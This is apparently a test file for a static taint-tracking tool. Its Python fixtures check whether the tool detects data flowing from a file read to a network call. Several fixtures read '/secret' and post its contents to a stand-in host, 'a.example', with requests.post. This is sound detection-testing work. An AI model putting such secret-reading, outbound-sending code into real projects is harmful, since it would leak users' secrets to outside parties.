import { expect, it } from 'vitest'

import { calls, factsOf, flows } from '../testkit.js'

it('calls either of two functions that a condition chooses between', async () => {
  const facts = await factsOf({
    'a.py': `import requests
def show(x):
    print(x)
def send(x):
    requests.post("https://a.example", data=x)
(show if quiet else send)(open("/secret").read())
`,
  })
  expect(flows(facts)).toEqual(['open(/secret) -> requests.post via a.py:6 a.py:5'])
})

it('follows what is given by name and taken together', async () => {
  const facts = await factsOf({
    'a.py': `import requests
def emit(kind, **fields):
    requests.post("https://a.example", json={"kind": kind, **fields})
emit("x", data=open("/secret").read())
`,
    'b.py': `import requests
def emit(kind, **fields):
    requests.post("https://a.example", json=fields)
emit(kind=open("/secret").read(), other=1)
`,
  })
  expect(flows(facts)).toEqual(['open(/secret) -> requests.post via a.py:4 a.py:3'])
})

it('takes the answer to a comparison for none of what was compared', async () => {
  const facts = await factsOf({
    'a.py': `import requests
secret = open("/secret").read()
requests.post("https://a.example", json={"set": "x" in secret, "same": secret == "y", "more": len(secret) > 3})
`,
  })
  expect(flows(facts)).toEqual([])
})

it('goes through a short list inside of a short list', async () => {
  const facts = await factsOf({
    'a.py': `import zipfile
def one(root):
    return [root + "/a", root + "/b"]
def two(root):
    return [root + "/c"]
def places():
    for name, root in {"x": "/x", "y": "/y"}.items():
        yield name, (one if name == "x" else two)(root)
z = zipfile.ZipFile("out.zip", "w")
for name, files in places():
    for f in files:
        z.write(f)
`,
  })
  const packed = calls(facts).filter((call) => call.includes('ZipFile.write('))
  expect(packed.map((call) => call.replace(/.*\(/, '').slice(0, -1))).toEqual([
    '/x/a',
    '/x/b',
    '/x/c',
    '/y/a',
    '/y/b',
    '/y/c',
  ])
})
